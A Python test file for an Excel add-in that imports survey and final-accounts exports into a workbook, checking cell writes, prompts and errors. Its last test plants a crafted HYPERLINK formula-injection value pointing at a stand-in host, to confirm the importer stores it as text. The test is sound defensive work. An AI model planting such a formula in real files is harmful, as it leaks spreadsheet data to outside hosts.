"""The 导入问卷星数据… and 导入决算数据… buttons, run headless with a stand-in for the open Excel workbook:
the same import as `pe-eval import`, written into the open workbook's input cells, asking before replacing."""
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
from export_files import FORM_SHEET, assets_table, form_table, survey_table, write_xlsx
from openpyxl import load_workbook

from scoring import COLUMNS, ROWS, assess
from xladdin import IMPORT_BUTTONS
from xladdin.excel import macros
from xladdin.workbook import SHEET_BUTTON_CELLS, assess_workbook
from xladdin.workbook import accounts as accounts_sheet
from xladdin.workbook import survey as survey_sheet

xw = pytest.importorskip("xlwings")
SAMPLE = Path(__file__).resolve().parents[1] / "workbook_templates" / "xundian-2024-sample.xlsx"


class FakeRange:
    def __init__(self, book, place):
        self.book, self.place = book, place

    @property
    def value(self):
        return self.book.written.get(self.place)

    @value.setter
    def value(self, value):
        """As Excel takes a value through COM: a leading apostrophe marks text, a string starting with = a formula."""
        if isinstance(value, str) and value.startswith("'"):
            value = value[1:]
        elif isinstance(value, str) and value.startswith("="):
            self.book.formulas.append(self.place)
        self.book.written[self.place] = value


class FakeSheet:
    def __init__(self, book, name):
        self.book, self.name = book, name

    def range(self, ref):
        return FakeRange(self.book, f"{self.name}!{ref}")


class FakeBook:
    """What the macro uses of xlwings' Book: its path, SaveCopyAs, the file dialog, message boxes and ranges."""

    def __init__(self, path: Path, picked, answer="yes"):
        self.fullname = str(path)
        self.written: dict[str, object] = {}
        self.formulas: list[str] = []  # cells the macro made formulas
        self.alerts: list[tuple[str, str | None]] = []
        book = self

        class Api:
            def SaveCopyAs(self, target):  # noqa: N802 - Excel's COM name
                shutil.copyfile(path, target)

        class AppApi:
            def GetOpenFilename(self, file_filter, index, title):  # noqa: N802
                return picked

        class App:
            api = AppApi()

            def alert(self, prompt, title=None, buttons="ok", mode=None, callback=None):
                book.alerts.append((prompt, buttons))
                return answer if buttons == "yes_no" else "ok"

        self.api, self.app = Api(), App()
        self.sheets = {name: FakeSheet(self, name) for name in (survey_sheet.NAME, accounts_sheet.NAME, "基本信息")}


def _cleared(tmp_path, sheet, refs):
    book = load_workbook(SAMPLE)
    for ref in refs:
        book[sheet][ref] = None
    path = tmp_path / "评价.xlsx"
    book.save(path)
    return path


def test_survey_button_fills_the_counts_of_the_open_workbook(tmp_path, seed, caller):
    refs = [f"F{row}" for q in seed.survey.questions for row in survey_sheet.question_rows(q.number)[: len(q.options)]]
    path = _cleared(tmp_path, survey_sheet.NAME, refs)
    export = write_xlsx(tmp_path / "812345678_按序号_满意度调查_50_50.xlsx", {"Sheet1": survey_table(seed.survey, "按序号")})
    book = caller(FakeBook(path, str(export)))
    before = path.read_bytes()
    macros.import_survey_export()
    assert book.alerts[-1][0].startswith("已导入问卷星数据「812345678_按序号_满意度调查_50_50.xlsx」：收回50份，有效49份，不计1份。")
    (question, buttons), _ = book.alerts  # the counts were blank; only 收回 changes: 49 typed, 50 in the export
    assert buttons == "yes_no" and question.startswith(f"将替换1个已填写的单元格（{survey_sheet.NAME}!{survey_sheet.RETURNED}）")
    counts = {place: v for place, v in book.written.items()
              if place.split("!")[1][0] == "F" and int(place.split("!")[1][1:]) >= survey_sheet.FIRST_ROW and v is not None}
    assert sum(counts.values()) == 49 * len(seed.survey.questions)
    assert book.written[f"{survey_sheet.NAME}!{survey_sheet.VALID}"] == 49
    assert path.read_bytes() == before  # the file on disk is Excel's to save
    # what the workbook then holds scores as the sample: 4835 ÷ 49
    edited = load_workbook(path)
    for place, value in book.written.items():
        sheet, ref = place.split("!")
        edited[sheet][ref] = value
    edited.save(tmp_path / "填好.xlsx")
    card = assess_workbook(tmp_path / "填好.xlsx").scorecard
    assert (card.survey.total, card.survey.average, card.total) == (Decimal(4835), Decimal("98.67"), Decimal("93.56"))


def test_survey_button_fills_blank_counts_and_titles_as_the_command_does(tmp_path, seed, caller):
    """收回/有效 blank and no titles: the button completes the sheet (it once said the workbook had no questions)."""
    refs = [survey_sheet.ISSUED, survey_sheet.RETURNED, survey_sheet.VALID]
    for q in seed.survey.questions:
        rows = survey_sheet.question_rows(q.number)
        refs += [f"B{rows[0]}", *(f"F{row}" for row in rows[: len(q.options)])]
    path = _cleared(tmp_path, survey_sheet.NAME, refs)
    export = write_xlsx(tmp_path / "812345678_按序号_满意度调查_50_50.xlsx", {"Sheet1": survey_table(seed.survey, "按序号")})
    book = caller(FakeBook(path, str(export)))
    macros.import_survey_export()
    (message, buttons), = book.alerts  # nothing typed is replaced: no question asked
    assert message.startswith("已导入问卷星数据") and "第1–10题的题目取自导出文件" in message
    first = survey_sheet.question_rows(1)[0]
    assert book.written[f"{survey_sheet.NAME}!B{first}"] == seed.survey.questions[0].text
    assert [book.written[f"{survey_sheet.NAME}!{ref}"] for ref in refs[:3]] == [50, 50, 49]


def test_accounts_button_asks_before_replacing_and_writes_nothing_when_refused(tmp_path, seed, caller):
    seed.accounts.set(60, "final", seed.accounts.get(60, "final") + Decimal(100))
    export = write_xlsx(tmp_path / "部门决算.xlsx", {FORM_SHEET: form_table(seed.accounts), "Z12 资产负债简表": assets_table()})
    book = caller(FakeBook(SAMPLE, str(export), answer="no"))
    macros.import_accounts_export()
    (question, buttons), (message, _) = book.alerts
    assert buttons == "yes_no" and question.startswith("将替换1个已填写的单元格（决算!") and "是否继续导入" in question
    assert message == "已取消导入决算数据，工作簿未改动。" and book.written == {}

    book = caller(FakeBook(SAMPLE, str(export), answer="yes"))
    macros.import_accounts_export()
    assert book.written[f"{accounts_sheet.NAME}!{accounts_sheet.cell(60, 'final')}"] == float(seed.accounts.get(60, "final"))
    every = [accounts_sheet.cell(n, c) for n, row in ROWS.items() for c in COLUMNS if c not in row.na]
    assert {place.split("!")[1] for place in book.written if place.startswith(accounts_sheet.NAME)} == set(every)
    assert book.alerts[-1][0].startswith("已导入部门决算数据「部门决算.xlsx」：")


def test_cancelled_dialog_and_failures_give_no_traceback(tmp_path, caller):
    book = caller(FakeBook(SAMPLE, False))
    macros.import_survey_export()
    assert book.alerts == [] and book.written == {}
    broken = tmp_path / "坏.xlsx"
    broken.write_bytes(b"not a workbook")
    book = caller(FakeBook(SAMPLE, str(broken)))
    macros.import_accounts_export()
    (message, _), = book.alerts
    assert message.startswith("未能导入决算数据：") and "Traceback" not in message and book.written == {}


def test_input_values_are_what_the_builder_writes(seed):
    from xladdin.workbook import build_workbook

    wb = build_workbook(assess(seed, __import__("scoring").load_ruleset("xundian-2024")).ruleset, seed)
    for sheet, values in ((survey_sheet.NAME, survey_sheet.input_values(seed.survey)),
                          (accounts_sheet.NAME, accounts_sheet.input_values(seed.accounts))):
        assert {ref: wb[sheet][ref].value for ref in values} == values


def test_every_import_button_has_a_free_cell_on_its_sheet():
    sample = load_workbook(SAMPLE)
    for _, entry, _, sheet in IMPORT_BUTTONS:
        assert callable(getattr(macros, entry))
        assert sample[sheet][SHEET_BUTTON_CELLS[sheet]].value is None


def test_text_from_an_export_is_written_as_text_never_as_a_formula(tmp_path, seed, caller):
    """A crafted 编制单位 in the export fills a blank 单位名称: the button (through xlwings) and the command
    (through openpyxl) both write it as the text it is."""
    from xladdin.cli import main
    from xladdin.workbook import info as info_sheet

    crafted = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
    place = info_sheet.cell("unit_name")
    path = _cleared(tmp_path, info_sheet.NAME, [place])
    export = write_xlsx(tmp_path / "部门决算.xlsx", {FORM_SHEET: form_table(seed.accounts, unit=crafted)})
    book = caller(FakeBook(path, str(export)))
    macros.import_accounts_export()
    assert book.alerts[-1][0].startswith("已导入部门决算数据"), book.alerts
    assert book.written[f"{info_sheet.NAME}!{place}"] == crafted and book.formulas == []

    out = tmp_path / "导入.xlsx"
    assert main(["import", "accounts", str(export), "--into", str(path), "-o", str(out)]) in (0, 1)
    cell = load_workbook(out)[info_sheet.NAME][place]
    assert (cell.value, cell.data_type) == (crafted, "s")
